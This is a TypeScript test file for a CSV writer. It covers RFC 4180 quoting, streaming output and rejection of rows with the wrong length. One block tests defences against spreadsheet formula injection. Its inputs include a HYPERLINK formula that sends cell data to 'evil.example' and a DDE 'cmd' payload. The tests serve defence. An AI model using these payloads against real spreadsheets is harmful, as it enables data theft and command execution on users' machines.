import { csvLines, CsvShapeError, toCsvCell, toCsvLine } from '../../../src/platform/csv/csv-writer';

async function* fromArray(rows: ReadonlyArray<readonly string[]>): AsyncGenerator<readonly string[]> {
  for (const row of rows) yield row;
}

async function collect(lines: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const line of lines) out.push(line);
  return out;
}

describe('toCsvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['Chloé 👩‍💻 🇫🇷', 'Chloé 👩‍💻 🇫🇷'],
    ['שלום, עולם', '"שלום, עולם"'],
    ['مرحبا\u200f', 'مرحبا\u200f'],
    ['  leading spaces', '  leading spaces'],
  ])('quotes %j per RFC 4180 as %j', (value, expected) => {
    expect(toCsvCell(value)).toBe(expected);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\rcmd', `"'\rcmd"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('neutralises the formula %j as %j', (value, expected) => {
    expect(toCsvCell(value)).toBe(expected);
  });

  it('leaves triggers that are not the first character alone', () => {
    expect(toCsvCell('a=b')).toBe('a=b');
    expect(toCsvCell('user@example.com')).toBe('user@example.com');
    expect(toCsvCell(' =1+1')).toBe(' =1+1');
    expect(toCsvCell("'=already quoted")).toBe("'=already quoted");
  });
});

describe('toCsvLine', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(toCsvLine(['a', 'b,c', '', '=x'])).toBe(`a,"b,c",,'=x\r\n`);
  });

  it('writes an empty row as an empty line', () => {
    expect(toCsvLine([])).toBe('\r\n');
  });
});

describe('csvLines', () => {
  it('yields the header, then one line per row, in order', async () => {
    const lines = await collect(
      csvLines(
        ['Name', 'Email'],
        fromArray([
          ['Chloé', 'chloe@example.com'],
          ['-Dash', '@handle'],
        ]),
      ),
    );
    expect(lines).toEqual(['Name,Email\r\n', 'Chloé,chloe@example.com\r\n', "'-Dash,'@handle\r\n"]);
  });

  it('yields each line as its row arrives (no buffering of the rows)', async () => {
    const pulled: number[] = [];
    async function* rows(): AsyncGenerator<readonly string[]> {
      for (let i = 1; i <= 3; i += 1) {
        pulled.push(i);
        yield [String(i)];
      }
    }
    const iterator = csvLines(['n'], rows());
    expect((await iterator.next()).value).toBe('n\r\n');
    expect(pulled).toEqual([]);
    expect((await iterator.next()).value).toBe('1\r\n');
    expect(pulled).toEqual([1]);
  });

  it('refuses a row whose length differs from the header', async () => {
    const error = await collect(csvLines(['a', 'b'], fromArray([['1', '2'], ['only one']]))).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CsvShapeError);
    expect(error).toMatchObject({ code: 'csv_row_shape', context: { row: 2, expected: 2, actual: 1 } });
  });
});
